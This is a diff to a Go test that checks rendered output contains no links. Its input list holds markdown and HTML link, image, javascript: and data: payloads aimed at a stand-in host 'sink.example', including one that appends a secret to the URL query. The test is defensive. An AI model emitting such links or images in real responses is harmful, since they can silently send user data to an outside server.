@@ -13,15 +13,12 @@ func nothing(string) bool { return false }
 // no address is left and nothing but the list of elements.
 func TestGroundedHasNoLink(t *testing.T) {
 	follow := regexp.MustCompile(`(?i)://|\bwww\.|mailto:|javascript:|data:[a-z]|class="(link|image|address)"`)
-	texts := payloads(t)
-	for _, more := range []string{
+	texts := append(payloads(t),
 		"[a](https://sink.example/x?d=SECRET)", "![a](https://sink.example/x)", "<https://sink.example>", "see https://sink.example/a).", "www.sink.example/x",
 		"[a][r]\n\n[r]: https://sink.example/x", "[a]\n\n[a]: <https://sink.example> 'x'", "![a][r]\n[r]: //sink.example", "`https://sink.example`", "```\nhttps://sink.example\n```",
 		"|a|\n|-|\n|https://sink.example|", "# https://sink.example", "> https://sink.example", "- https://sink.example", "**https://sink.example**", "mailto:a@sink.example", "[x](javascript:alert(1))",
 		"[x](data:text/html,a)", "<a href=\"https://sink.example\">x</a>", "<img src=https://sink.example>", "\\[https://sink.example\\]", "https:\\\\sink.example", "HTTPS://SINK.EXAMPLE", "ftp://sink.example", "[ ![a](https://sink.example/1) ](https://sink.example/2)",
-	} {
-		texts = append(texts, more)
-	}
+	)
 	if len(texts) < 60 {
 		t.Fatalf("%d payloads", len(texts))
 	}
